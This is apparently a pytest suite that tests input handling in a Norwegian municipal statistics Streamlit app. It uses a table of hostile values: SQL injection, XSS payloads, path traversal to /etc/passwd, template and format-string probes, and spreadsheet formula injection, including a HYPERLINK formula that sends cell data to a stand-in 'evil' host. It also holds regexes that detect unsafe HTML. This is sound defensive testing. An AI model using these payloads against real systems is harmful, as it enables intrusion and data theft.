"""Hostile input, table-driven: every hostile value in every URL parameter each page reads, and in
every free-text and number field of the forms (through the store calls the forms make).

For each page and value: no exception, no HTML injected (no ``<script``/``onerror``/``onload``/
``javascript:`` in any element that renders HTML), and — for the parameters the pages parse
themselves — a Norwegian message saying what was wrong. One AppTest object per page is reused for
all values (like a user editing the address), so the module stays fast; the statistics database is
the shipped one (linked, read-only), the user store a throwaway one.
"""

from __future__ import annotations

import csv
import json
import re
from datetime import date
from html import escape
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from nokkeltall import cli, snapshot
from nokkeltall.sources import plan_status
from nokkeltall.store import UserStore, ValidationError
from nokkeltall.store.decks import DeckStore

ROOT = Path(__file__).resolve().parents[1]
APP = str(ROOT / "app.py")

HOSTILE = [
    # unknown and malformed municipality numbers
    "0000",
    "9999",
    "1",
    "18",
    "183",
    "18355",
    "01835",
    "1835.0",
    "1,835",
    "+1835",
    "-1835",
    "0x72B",
    "1e3",
    "١٨٣٥",
    "１８３５",
    "18 35",
    "1835a",
    "x1835",
    # SQL fragments
    "1835' OR 1=1--",
    "' OR '1'='1",
    '1835"; DROP TABLE municipality; --',
    "1; SELECT * FROM dataset",
    "1835 UNION SELECT name FROM sqlite_master",
    "'; DELETE FROM applications; --",
    # HTML / script / Markdown
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "[klikk](javascript:alert(1))",
    "<iframe src=//evil>",
    "**fet** _kursiv_ `kode`",
    "$$\\frac{1}{0}$$",
    "<b>fet</b>",
    "&lt;script&gt;",
    # very long strings
    "a" * 10_000,
    "9" * 5_000,
    "1835," * 2_000,
    # unicode, RTL, zero-width, emoji
    "\u202e5381",
    "\u200b1835",
    "1835\u200b",
    "\ufeff1835",
    "🏔️🦌",
    "Træna ÆØÅ æøå",
    "𝟏𝟖𝟑𝟓",
    "ＫＯＭＭＵＮＥ",
    # negative and huge numbers, special floats
    "-1",
    "0",
    "-99999999999999999999",
    "99999999999999999999999",
    "1e308",
    "-1e308",
    "NaN",
    "inf",
    "-inf",
    # NUL-like characters and encodings
    "\x00",
    "1835\x00",
    "%00",
    "%2500",
    "\x1b[31m",
    "\r\n",
    "\t",
    # path traversal and odd literals
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2f",
    "None",
    "null",
    "undefined",
    "true",
    "[]",
    "{}",
    "${7*7}",
    "{{7*7}}",
    "%s%s%s%n",
    "   ",
    # issue 17: digits int() refuses («²» passes str.isdigit), a number Streamlit's binding made infinite
    "²",
    "³",
    "١٢",
    "9" * 400,
    "1e999",
    # control characters (vertical tab is Word's Shift+Enter; Word's XML holds none of them)
    "\x0b",
    "Linje\x0bto",
    "18\x0b35",
    "\x0c\x07\x08\x1f\x7f\x85\x9b",
    "tekst\x00med\x00nul",
    # bidi overrides, embeddings, isolates and marks
    "\u202egnirts\u202c",
    "\u2066\u2067\u2068isolert\u2069",
    "\u202a\u202b\u202d\u200e\u200f\u061c",
    # formula strings (CSV/Excel injection)
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil/?q="&A1,"Klikk")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
assert len(HOSTILE) >= 50
MEGABYTE = "æ" * 1_000_000  # a 1 MB string: form fields and import paths (not URLs: servers cap those)

# The parameters each page reads. ``parsed``: read by our code, which must answer with a message;
# ``bound``: widgets bound to the URL by Streamlit (bind="query-params"), which falls back to the
# widget's default by itself. test_the_table_covers_every_parameter keeps this in step with the pages.
PARAMS = {
    "pages/oversikt.py": {"parsed": ["fylke", "grense", "kartmal"], "bound": []},  # bound, and checked first
    "pages/kommune.py": {"parsed": ["kommune", "scenario"], "bound": ["del"]},  # scenario: «Framskriving»
    "pages/sammenlign.py": {
        "parsed": ["kommuner", "indikatorer", "visning", "basisaar", "vekter", "lik", "utvalg", "kommune"],
        "bound": [],
    },
    "pages/samlingsmodus.py": {
        "parsed": ["kommuner", "indikatorer", "visning", "basisaar", "lysbilde", "kommune"],
        "bound": [],
    },
    "pages/plan.py": {"parsed": ["kommune"], "bound": []},
    "pages/soknader.py": {"parsed": ["kommune"], "bound": []},
    "pages/om_data.py": {"parsed": [], "bound": []},
}
# samlingsmodus's «sett» (a deck) replaces the comparison parameters, so it gets its own pass
EXTRA_PASSES = {"pages/samlingsmodus.py": {"parsed": ["sett"], "bound": []}}

# what must never be stored: control characters but tab/newline, bidi controls, BOM
UNSAFE_STORED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ufeff]")
DANGEROUS = re.compile(
    r"<\s*script|onerror\s*=|onload\s*=|javascript:|<\s*iframe|<\s*img|<\s*svg", re.IGNORECASE
)


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory, shipped_database):
    """The shipped statistics (linked), a throwaway user store shared by the module's tests."""
    folder = tmp_path_factory.mktemp("hostile-data")
    (folder / "snapshot").symlink_to(ROOT / "data" / "snapshot")
    (folder / "nokkeltall.duckdb").symlink_to(shipped_database)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("NOKKELTALL_DATA_DIR", str(folder))
        patch.delenv("NOKKELTALL_EDITOR_PASSWORD", raising=False)
        yield folder


def page_app(page: str) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=60)
    at.run()  # registers the pages (om_data.py's url_path is «om-data»)
    at.switch_page(page)
    return at


def html_bodies(at: AppTest) -> list[str]:
    """Bodies of every element that renders HTML: markdown with allow_html, and st.html."""
    bodies = []
    for kind in ("markdown", "caption", "title", "header", "subheader", "latex"):
        for element in at.get(kind):
            if getattr(element.proto, "allow_html", False):
                bodies.append(element.proto.body)
    bodies += [element.proto.body for element in at.get("html")]
    return bodies


def problems_on(at: AppTest) -> list[str]:
    """Why this run is not acceptable (empty when it is)."""
    found = [f"exception: {e.message[:200]}" for e in at.exception]
    found += [f"HTML injected: {body[:200]!r}" for body in html_bodies(at) if DANGEROUS.search(body)]
    return found


def messages(at: AppTest) -> list[str]:
    """Warnings and errors (the info and success boxes some pages always show do not count)."""
    return [e.value for kind in ("error", "warning") for e in at.get(kind)]


def run_with(at: AppTest, params: dict[str, str]) -> AppTest:
    for key in list(at.query_params):
        del at.query_params[key]
    for key, value in params.items():
        at.query_params[key] = value
    return at.run()


@pytest.mark.parametrize("page_file", [*PARAMS, *[f"{p}#extra" for p in EXTRA_PASSES]])
def test_hostile_values_in_every_url_parameter(data_dir, page_file):
    file = page_file.split("#")[0]
    table = EXTRA_PASSES[file] if page_file.endswith("#extra") else PARAMS[file]
    names = table["parsed"] + table["bound"] + ([] if "kommune" in table["parsed"] else ["kommune"])
    at = page_app(file)
    failures = []
    for value in HOSTILE:
        at = run_with(at, {name: value for name in names})
        failures += [f"{value[:40]!r}: {problem}" for problem in problems_on(at)]
        if table["parsed"] and not messages(at):
            failures.append(f"{value[:40]!r}: no message for the invalid {'/'.join(table['parsed'])}")
    # after all that, a valid address still works on the same session
    at = run_with(at, {"kommune": "1835"} if "kommune" in table["parsed"] else {})
    failures += [f"valid address afterwards: {problem}" for problem in problems_on(at)]
    assert not failures, "\n".join(failures[:40])


def test_each_parsed_parameter_alone(data_dir):
    """One hostile parameter at a time next to valid ones: the message names what was wrong."""
    valid = {"kommuner": "1835,5043", "indikatorer": "population", "visning": "linjer"}
    at = page_app("pages/sammenlign.py")
    failures = []
    for name in PARAMS["pages/sammenlign.py"]["parsed"]:
        for value in ("<script>alert(1)</script>", "9" * 5_000, "-1", "\u202e5381", "1835' OR 1=1--"):
            at = run_with(at, {**valid, name: value})
            failures += [f"{name}={value[:20]!r}: {p}" for p in problems_on(at)]
            if not messages(at):
                failures.append(f"{name}={value[:20]!r}: no message")
    assert not failures, "\n".join(failures)


# nokkeltall/ui modules holding one page's sections
SECTION_MODULES = {"overview", "compare_view", "projection_view", "slideshow"}


def test_the_table_covers_every_parameter():
    """Every query parameter a page reads appears in PARAMS (read from the page files)."""
    patterns = [
        r"params\.get\(\s*\"(\w+)\"",
        r"query_params\.get\(\s*\"(\w+)\"",
        r"query_params\[\s*\"(\w+)\"\s*\]",
        r"key=\"(\w+)\",[^)]*?bind=\"query-params\"",
    ]
    for page, table in PARAMS.items():
        source = (ROOT / page).read_text(encoding="utf-8")
        # a page's sections in nokkeltall/ui/<module>.py («from nokkeltall.ui import overview») count as
        # the page
        for module in re.findall(r"^from nokkeltall\.ui import (\w+)$", source, flags=re.MULTILINE):
            if module in SECTION_MODULES:
                source += (ROOT / "nokkeltall" / "ui" / f"{module}.py").read_text(encoding="utf-8")
        read = {m for pattern in patterns for m in re.findall(pattern, source, flags=re.DOTALL)}
        if "municipality_picker(" in source or "KOMMUNE_PARAM" in source:
            read.add("kommune")
        read.discard("lysbilde") if page != "pages/samlingsmodus.py" else None
        covered = (
            set(table["parsed"]) | set(table["bound"]) | set(EXTRA_PASSES.get(page, {}).get("parsed", []))
        )
        assert read <= covered, f"{page} reads {sorted(read - covered)}, not in the hostile-input table"


# --- form fields -------------------------------------------------------------------------------------

TODAY = date(2026, 11, 26)
GOOD_APPLICATION = {
    "municipality_code": "1835",
    "round_year": 2026,
    "received_date": "2026-11-01",
    "status": "mottatt",
    "contact_name": "Kari Nordmann",
    "contact_email": "kari@trana.kommune.no",
    "samfunnsdel_year": "2019",
    "progress_plan": "Planstrategi våren 2027.",
    "has_fact_base": True,
    "fact_base_description": "Kommunebarometeret",
    "planning_staff_persons": 1,
    "planning_staff_percent": 50.0,
    "note": "",
}
TEXT_FIELDS = [
    "contact_name",
    "contact_email",
    "samfunnsdel_year",
    "progress_plan",
    "fact_base_description",
    "note",
]
NUMBER_FIELDS = ["planning_staff_persons", "planning_staff_percent", "round_year"]


def _outcome(call, *args, **kwargs) -> str | None:
    """None when ``call(*args, **kwargs)`` saved, else the Norwegian messages; anything but
    ValidationError propagates."""
    try:
        call(*args, **kwargs)
    except ValidationError as error:
        assert error.errors and all(isinstance(m, str) and m.strip() for m in error.errors.values())
        return " ".join(error.errors.values())
    return None


def test_application_form_fields(data_dir):
    store = UserStore(data_dir / "brukerdata.sqlite", today=TODAY)
    saved = store.add_application(GOOD_APPLICATION, changed_by="Test")
    failures = []
    for number, value in enumerate(HOSTILE):
        for field in TEXT_FIELDS + NUMBER_FIELDS:
            message = _outcome(store.update_application, saved["id"], {field: value}, changed_by="Test")
            stored = store.get_application(saved["id"])[field]
            if message is None and field in NUMBER_FIELDS and not isinstance(stored, (int, float)):
                failures.append(f"{field}={value[:20]!r} stored as {stored!r}")
        # «Ditt navn» (the change log's name)
        _outcome(store.update_application, saved["id"], {"note": f"endring {number}"}, changed_by=value)
    # the municipality field: every hostile number is refused with the Norwegian message
    for value in HOSTILE:
        message = _outcome(store.add_application, {**GOOD_APPLICATION, "municipality_code": value}, "Test")
        if message is None:
            failures.append(f"municipality_code={value[:20]!r} was accepted")
    # a megabyte in any text field is refused, and nothing stored holds a control or bidi character
    for field in TEXT_FIELDS:
        change = {field: MEGABYTE}
        if _outcome(lambda c=change: store.update_application(saved["id"], c, changed_by="Test")) is None:
            failures.append(f"{field}: 1 MB accepted")
    stored = store.get_application(saved["id"])
    failures += [
        f"{field} stored {stored[field][:30]!r}"
        for field in TEXT_FIELDS
        if isinstance(stored[field], str) and UNSAFE_STORED.search(stored[field])
    ]
    assert not failures, "\n".join(failures[:40])
    # whatever was saved shows without exception or injected HTML on the application page
    at = page_app("pages/soknader.py")
    at = run_with(at, {"kommune": "1835"})
    assert problems_on(at) == []
    for tab in ("Samtaleunderlag", "Sikkerhetskopi"):  # only the open tab is drawn
        at.session_state["applications_tab"] = tab
        assert problems_on(at.run()) == [], tab


def test_plan_and_milestone_fields_then_the_pages_that_show_them(data_dir):
    store = UserStore(data_dir / "brukerdata.sqlite", today=TODAY)
    plan_at = page_app("pages/plan.py")
    deck_store = DeckStore(store)
    deck_at = page_app("pages/samlingsmodus.py")
    failures = []
    for number, value in enumerate(HOSTILE):
        for field in ("adopted", "period", "source", "note"):
            _outcome(
                store.add_plan_entry,
                {
                    "municipality_code": "1835",
                    "plan_type": "samfunnsdel",
                    "status": "under_arbeid",
                    "adopted": "",
                    "period": "",
                    "source": "Saksnr. 1",
                    "note": "",
                    field: value,
                },
                changed_by="Test",
            )
        _outcome(
            store.save_milestones,
            "1835",
            [
                {
                    "plan_type": "planstrategi",
                    "title": value,
                    "start_date": "2027-01-15",
                    "end_date": None,
                    "status": "planlagt",
                    "note": value,
                },
                {
                    "plan_type": "samfunnsdel",
                    "title": "Oppstart",
                    "start_date": value,
                    "end_date": value,
                    "status": value,
                    "note": "",
                },
            ],
            changed_by="Test",
        )
        _outcome(
            store.save_milestones,
            "1835",
            [
                {
                    "plan_type": "planstrategi",
                    "title": value or "x",
                    "start_date": "2027-01-15",
                    "end_date": None,
                    "status": "planlagt",
                    "note": value,
                }
            ],
            changed_by="Test",
        )
        _outcome(
            deck_store.save,
            value[:80] + f" {number}",
            [{"indicator_id": "population", "codes": ["1835", "5043"], "view": "linjer", "base_year": None}],
            value,
        )
        if number % 10 == 9 or number == len(HOSTILE) - 1:  # render every tenth value (rows accumulate)
            plan_at = run_with(plan_at, {"kommune": "1835"})
            failures += [f"plan page after {value[:20]!r}: {p}" for p in problems_on(plan_at)]
            deck_at = run_with(deck_at, {})
            failures += [f"gathering page after {value[:20]!r}: {p}" for p in problems_on(deck_at)]
    assert store.list_plan_entries("1835"), "the valid ones were saved"
    assert not failures, "\n".join(failures[:40])


def test_invisible_characters_are_not_echoed(data_dir):
    at = run_with(page_app("pages/kommune.py"), {"kommune": "\u202e5381\u200b\x00"})
    (warning,) = [w.value for w in at.warning]
    assert "Fant ingen kommune med nummer «5381»" in warning
    at = run_with(page_app("pages/soknader.py"), {"kommune": "<script>alert(1)</script>"})
    assert any("Fant ingen kommune med nummer «\\<script\\>" in w.value for w in at.warning)


FORM_VALUES = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "1835' OR 1=1--",
    "a" * 10_000,
    "9" * 5_000,
    "-99999999999999999999",
    "1e308",
    "NaN",
    "\u202e5381",
    "\x00",
    "%00",
    "🏔️🦌",
    "../../etc/passwd",
    "[klikk](javascript:alert(1))",
    "   ",
    "Linje\x0bto",
    "\u202egnirts\u202c",
    "=cmd|' /C calc'!A0",
    "@SUM(A1)",
    MEGABYTE,
]


def test_application_and_plan_forms_in_the_page(data_dir):
    """The real forms: every text field gets the hostile value, then «Lagre»; the page either saves
    (and says so) or names the fields it refuses, with no exception and no HTML let through."""
    failures, refused = [], []
    at = page_app("pages/soknader.py")
    for value in FORM_VALUES:
        at = run_with(at, {"kommune": "1836"})
        form = {"contact_ny": value, "email_ny": value, "samfunnsdel_ny": value, "application_name_ny": value}
        for key, text_value in form.items():
            at.text_input(key=key).input(text_value)
        for key in ("progress_ny", "facttext_ny", "note_ny"):
            at.text_area(key=key).input(value)
        at = next(b for b in at.button if b.label == "Lagre søknad").click().run()
        failures += [f"søknad {value[:20]!r}: {p}" for p in problems_on(at)]
        refused += [e.value for e in at.error]
        if not (at.error or at.success):
            failures.append(f"søknad {value[:20]!r}: neither saved nor refused with a message")
    at = page_app("pages/plan.py")
    at.session_state["plan_entry_open"] = (
        True  # the plan status form is drawn only while its expander is open
    )
    for value in FORM_VALUES:
        at = run_with(at, {"kommune": "1836"})
        for key in ("plan_entry_adopted", "plan_entry_period", "plan_entry_source", "plan_entry_name"):
            at.text_input(key=key).input(value)
        at.text_area(key="plan_entry_note").input(value)
        at = next(b for b in at.button if b.label == "Lagre planstatus").click().run()
        failures += [f"planstatus {value[:20]!r}: {p}" for p in problems_on(at)]
        refused += [e.value for e in at.error]
        if not (at.error or at.success):
            failures.append(f"planstatus {value[:20]!r}: neither saved nor refused with a message")
    assert not failures, "\n".join(failures[:40])
    # the refusals name the field, in Norwegian
    assert any(m.startswith("**E-post til kontaktperson:**") for m in refused)
    assert any(m.startswith("**Vedtatt (år eller dato):**") for m in refused)


def test_report_html_escapes_what_users_entered(data_dir, tmp_path):
    """The fact-base report (HTML download on the municipality page) carries plan status and milestones
    typed by users: every hostile value comes out escaped."""
    import duckdb

    from nokkeltall import report

    store = UserStore(tmp_path / "brukerdata.sqlite", today=TODAY)
    values = (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        "javascript:alert(1)",
        "<iframe src=//evil>",
    )
    for value in values:
        store.add_plan_entry(
            {
                "municipality_code": "1835",
                "plan_type": "samfunnsdel",
                "status": "vedtatt",
                "adopted": "2020",
                "period": value,
                "source": value,
                "note": value,
            },
            changed_by=value,
        )
        store.add_milestone(
            {
                "municipality_code": "1835",
                "plan_type": "planstrategi",
                "title": value,
                "start_date": "2027-01-15",
                "status": "planlagt",
                "note": value,
            },
            changed_by=value,
        )
    with duckdb.connect(str(data_dir / "nokkeltall.duckdb"), read_only=True) as con:
        page = report.render_bytes(con, "1835", "html", charts=False, store=store).decode("utf-8")
    # the newest entry is shown; entries saved within one second tie, so any of them may be the one
    assert any(escape(value) in page or escape(value, quote=False) in page for value in values), "escaped"
    body = page.split("<body", 1)[-1]
    # an event handler counts inside a real tag: the escaped text «&lt;img src=x onerror=…» is harmless (which
    # entry is shown depends on the clock, so that text may or may not be there)
    assert not re.search(r"<\s*(script|img|svg|iframe)\b|<[^>]*\s(onerror|onload)\s*=", body, re.IGNORECASE)
    assert 'href="javascript:' not in body.lower()


# --- issue 17: the JSON restore and the spreadsheet import carry the same values -------------------------

RESTORE_TEXT_FIELDS = {
    "applications": [
        "progress_plan",
        "fact_base_description",
        "contact_name",
        "note",
        "entered_by",
        "updated_by",
    ],
    "plan_status_entries": ["period", "source", "note"],
    "milestones": ["title", "note"],
    "decks": ["name", "saved_by"],
}


def test_restore_with_hostile_values_in_every_text_field(data_dir, tmp_path):
    """Every hostile value (and a megabyte) in every text field of a backup: refused with Norwegian
    messages or restored cleaned, never an exception; then the pages showing the data stay clean."""
    source = UserStore(tmp_path / "source.sqlite", today=TODAY)
    source.add_application(GOOD_APPLICATION, changed_by="Test")
    source.add_plan_entry(
        {
            "municipality_code": "1835",
            "plan_type": "samfunnsdel",
            "status": "vedtatt",
            "adopted": "2020",
            "source": "Sak 1",
        },
        changed_by="Test",
    )
    source.add_milestone(
        {
            "municipality_code": "1835",
            "plan_type": "planstrategi",
            "title": "Oppstart",
            "start_date": "2027-01-15",
            "status": "planlagt",
        },
        changed_by="Test",
    )
    DeckStore(source).save(
        "Sett",
        [{"indicator_id": "population", "codes": ["1835", "5043"], "view": "linjer", "base_year": None}],
        "Test",
    )
    backup = source.export_data()
    store = UserStore(data_dir / "brukerdata.sqlite", today=TODAY)
    failures, restored = [], 0
    for value in [*HOSTILE, MEGABYTE]:
        for table, fields in RESTORE_TEXT_FIELDS.items():
            changed = json.loads(json.dumps(backup))
            for field in fields:
                changed["tables"][table][0][field] = value
            if _outcome(lambda c=changed: store.import_json(json.dumps(c), restored_by="Test")) is None:
                restored += 1
                row = store.export_data()["tables"][table][0]
                failures += [
                    f"{table}.{field}={value[:20]!r} stored {row[field][:30]!r}"
                    for field in fields
                    if isinstance(row[field], str) and UNSAFE_STORED.search(row[field])
                ]
    assert restored, "the harmless values were restored"
    assert not failures, "\n".join(failures[:40])
    for page, params in (
        ("pages/soknader.py", {"kommune": "1835"}),
        ("pages/plan.py", {"kommune": "1835"}),
        ("pages/samlingsmodus.py", {}),
    ):
        at = run_with(page_app(page), params)
        assert problems_on(at) == [], page


def test_spreadsheet_import_with_hostile_values(tmp_path, writable_data_dir):
    """The collected plan status CSV (``nokkeltall import``) with every hostile value in its text columns:
    imported cleaned (no control or bidi character, no non-http link) or refused, never a traceback.
    (Into the small fixture data: each import rebuilds the database, and Træna's plan page is the same.)"""
    values = [v for v in [*HOSTILE, MEGABYTE] if "\x00" not in v]  # NUL: pandas' parser stops reading
    path = tmp_path / "planstatus.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(plan_status.PLAN_COLUMNS)
        for value in values:
            writer.writerow(
                ["1835", value, "samfunnsdel", value, value, "ukjent", value, value, value, value]
            )
    assert cli.main(["import", str(path)]) == 0
    frame = snapshot.load_dataset("plan_status_sources")
    for column in ("period", "adopted", "source_title", "note", "source_url"):
        texts = frame[column].dropna()
        assert not texts.str.contains(UNSAFE_STORED.pattern, regex=True).any(), column
    assert frame["source_url"].dropna().str.match(r"https?://").all()
    at = run_with(page_app("pages/plan.py"), {"kommune": "1835"})
    assert problems_on(at) == []
    nul = tmp_path / "nul.csv"
    nul.write_text(
        path.read_text(encoding="utf-8").splitlines()[0] + "\n1835,a\x00b,samfunnsdel,2020\x00,,ukjent,,,,\n",
        encoding="utf-8",
    )
    assert cli.main(["import", str(nul)]) in (0, 2)
